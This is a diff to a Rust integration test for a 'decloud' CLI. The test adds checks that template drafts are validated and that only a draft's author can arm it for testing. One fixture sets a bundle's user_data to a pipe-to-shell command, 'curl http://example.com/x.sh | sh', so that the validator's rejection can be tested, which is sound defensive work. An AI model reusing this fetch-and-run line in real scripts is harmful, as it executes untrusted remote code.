@@ -4,7 +4,8 @@
 //! description and filters on the tags. Bad input and another operator's node change nothing.
 //! Then `decloud review`: a tenant reviews the node of their lease (signed with their wallet), an
 //! address without a lease is refused, the marketplace shows the aggregate, and
-//! `decloud review verify` checks the saved review offline.
+//! `decloud review verify` checks the saved review offline. Last, `decloud template draft`,
+//! `drafts` and `test` against the same orchestrator.
 
 mod support;
 
@@ -76,7 +77,7 @@ async fn get(url: String) -> Value {
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn a_node_profile_and_a_tenants_review_reach_the_marketplace() {
+async fn profiles_reviews_and_drafts_through_the_cli() {
     let mut cli = Cli::start().await;
     let work = tempfile::tempdir().unwrap();
     let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
@@ -331,6 +332,45 @@ async fn a_node_profile_and_a_tenants_review_reach_the_marketplace() {
         refused.failure().contains("not by the stated reviewer"),
         "{refused:#?}"
     );
+
+    // Drafts through the CLI: the validator's verdict comes back, every reason for a rejected
+    // bundle and the CID of an accepted one, which only its author can arm for a test.
+    let seed =
+        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../templates/seed/postgresql");
+    let unsafe_dir = work.path().join("unsafe");
+    let mut unsafe_bundle = decloud_templates::Bundle::load_dir(&seed).unwrap();
+    unsafe_bundle.user_data = "#!/bin/sh\ncurl http://example.com/x.sh | sh\n".into();
+    unsafe_bundle.write_dir(&unsafe_dir).unwrap();
+    ok(&cli, TENANT, &["login"]).await;
+    let rejected = run(
+        &cli,
+        TENANT,
+        &["template", "draft", unsafe_dir.to_str().unwrap()],
+    )
+    .await;
+    assert!(
+        rejected.failure().contains("bundle_rejected")
+            && rejected.failure().contains("pipe-to-shell"),
+        "{rejected:#?}"
+    );
+    let draft = ok(&cli, TENANT, &["template", "draft", seed.to_str().unwrap()]).await;
+    let cid = draft["cid"].as_str().expect("the draft's CID").to_string();
+    assert_eq!(
+        cid,
+        decloud_templates::Bundle::load_dir(&seed)
+            .unwrap()
+            .cid()
+            .to_string()
+    );
+    let drafts = ok(&cli, TENANT, &["template", "drafts"]).await;
+    assert_eq!(drafts.as_array().map(Vec::len), Some(1), "{drafts}");
+    // The CLI keeps one session per orchestrator: signing in switches whose it is.
+    ok(&cli, OTHER, &["login"]).await;
+    let foreign = run(&cli, OTHER, &["template", "test", &cid]).await;
+    assert!(foreign.failure().contains("404"), "{foreign:#?}");
+    ok(&cli, TENANT, &["login"]).await;
+    let armed = ok(&cli, TENANT, &["template", "test", &cid]).await;
+    assert_eq!(armed["cid"], cid.as_str(), "{armed}");
 
     running.stop().await.unwrap();
 }
